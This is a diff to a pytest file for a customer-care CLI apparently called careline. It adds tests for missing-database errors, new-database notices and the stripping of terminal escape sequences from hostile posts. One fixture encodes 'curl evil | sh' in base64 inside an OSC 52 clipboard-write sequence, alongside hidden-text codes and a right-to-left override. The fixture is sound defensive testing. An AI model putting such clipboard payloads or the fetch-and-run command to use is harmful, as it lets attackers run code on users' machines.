@@ -108,7 +108,8 @@ def run_main(*args: str, env: dict[str, str] | None = None, stdin: str | None = 
 READ_ONLY = [("queue",), ("queue", "--json"), ("status",), ("user", "list"), ("team", "list"),
              ("readings", "export"), ("customer", "export", "--platform", "x", "--handle", "ann"),
              ("customer", "erase", "--platform", "x", "--handle", "ann", "--yes"),
-             ("user", "token", "ann"), ("user", "reset", "ann"), ("sla", "backfill")]
+             ("user", "token", "ann"), ("user", "reset", "ann"), ("sla", "backfill"),
+             ("team", "add", "ops"), ("team", "add", "ops", "--member", "ann")]  # a new file has no members to add
 
 
 @pytest.mark.parametrize("args", READ_ONLY, ids=" ".join)
@@ -117,16 +118,20 @@ def test_read_only_commands_refuse_a_missing_database_instead_of_creating_it(tmp
     missing = tmp_path / "typo" / "careline.db"
     code, out = run_main(*args, env={"CARELINE_SERVICE__DATABASE": str(missing)})
     assert code == 2, out
-    assert f"error: no database at {missing} (run `careline run` or `careline demo` first" in out
+    assert f"error: no database at {missing} (`careline run` or `careline user add NAME --role admin` creates it; " \
+           "`careline demo` uses a file of its own" in out  # the demo never makes the configured file
     assert "Traceback" not in out
     assert not missing.parent.exists()  # neither the file nor its folder was made
 
 
-def test_user_add_still_creates_the_database(tmp_path: Path) -> None:
+def test_user_add_still_creates_the_database_and_says_so(tmp_path: Path) -> None:
     db = tmp_path / "new" / "careline.db"
     env = {"CARELINE_SERVICE__DATABASE": str(db)}
     code, out = run_main("user", "add", "ann", "--role", "agent", "--password", "a long password", env=env)
     assert code == 0 and db.is_file(), out
+    assert f"note: created a new database at {db}; if you meant an existing one, check service.database" in out
+    code, out = run_main("user", "add", "bea", "--role", "agent", "--password", "a long password", env=env)
+    assert code == 0 and "created a new database" not in out, out  # said once, when it happened
     code, out = run_main("user", "list", env=env)
     assert code == 0 and out.startswith("ann "), out
 
@@ -321,3 +326,55 @@ def test_classifiers_cli_runs_as_a_module() -> None:
     assert done.returncode == 0, done.stderr
     assert "Usage: python -m classifiers.cli" in done.stdout
     assert all(name in done.stdout for name in ("classify", "evaluate", "train"))
+
+
+def test_config_import_into_a_new_database_says_it_created_it_and_a_bad_file_creates_nothing(tmp_path: Path) -> None:
+    db = tmp_path / "careline.db"
+    env = {"CARELINE_SERVICE__DATABASE": str(db)}
+    bad = tmp_path / "bad.toml"
+    bad.write_text('[[brands]]\nname = "Bad!"\nkeywords = ["x"]\n', encoding="utf-8")
+    code, out = run_main("config", "import", str(bad), env=env)
+    assert code == 2 and "brands[0].name" in out and not db.exists(), out  # refused before the file was made
+    good = tmp_path / "good.toml"
+    good.write_text('[[brands]]\nname = "zed"\nkeywords = ["zed shoes"]\n', encoding="utf-8")
+    code, out = run_main("config", "import", str(good), env=env)
+    assert code == 0 and db.is_file() and f"note: created a new database at {db}" in out, out
+    code, out = run_main("config", "import", str(good), env=env)
+    assert code == 0 and "created a new database" not in out, out
+
+
+def test_backfill_into_a_new_database_says_it_created_it(tmp_path: Path, refusing_server: str) -> None:
+    db = tmp_path / "careline.db"
+    config = tmp_path / "careline.toml"
+    config.write_text(f'[service]\ndatabase = "{db}"\n\n[[brands]]\nname = "skylark"\nkeywords = ["skylark air"]\n\n'
+                      f'[sources.x]\napi_base_url = "{refusing_server}"\n', encoding="utf-8")
+    env = {"CARELINE_X_BEARER_TOKEN": "revoked"}
+    code, out = run_main("--config", str(config), "backfill", "--source", "x", "--since", "1d", "--quiet", env=env)
+    assert code == 1 and db.is_file() and f"note: created a new database at {db}" in out, out
+    code, out = run_main("--config", str(config), "backfill", "--source", "x", "--since", "1d", "--quiet", env=env)
+    assert code == 1 and "created a new database" not in out, out
+
+
+#: What a hostile post carries to an agent's terminal: OSC 52 writes the clipboard, CSI clears the screen and
+#: hides text, a right-to-left override reorders the line.
+ESCAPES = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b[2J\x1b[8mhidden\x1b[0m \u202egnp.exe"
+
+
+def test_queue_shows_hostile_text_and_handles_without_their_escape_sequences(tmp_path: Path) -> None:
+    env = _queue_db(tmp_path)
+    from careline.store import Store
+
+    store = Store(env["CARELINE_SERVICE__DATABASE"]).open_sync()
+    try:
+        store.write_sync(lambda db: (
+            db.conn.execute("UPDATE mentions SET text = ?", ("👨\u200d👩\u200d👧 my bag " + ESCAPES,)),
+            db.conn.execute("UPDATE authors SET handle = ?", ("ev\x1b[31mil\u202e",))))
+    finally:
+        store.close_sync()
+    result = CliRunner().invoke(cli, ["queue"], env=env, color=True, catch_exceptions=False)  # as on a terminal
+    assert result.exit_code == 0, result.output
+    rows = result.output.splitlines()[1:]
+    assert len(rows) == 4
+    assert not any(ch in result.output for ch in "\x1b\x07\u202e"), repr(result.output)
+    shown = "👨\u200d👩\u200d👧 my bag ?]52;c;Y3VybCBldmlsIHwgc2g=? ?[2J?[8mhidden"  # an emoji's joiners are kept
+    assert all("@ev?[31mil?" in row and shown in row for row in rows), rows
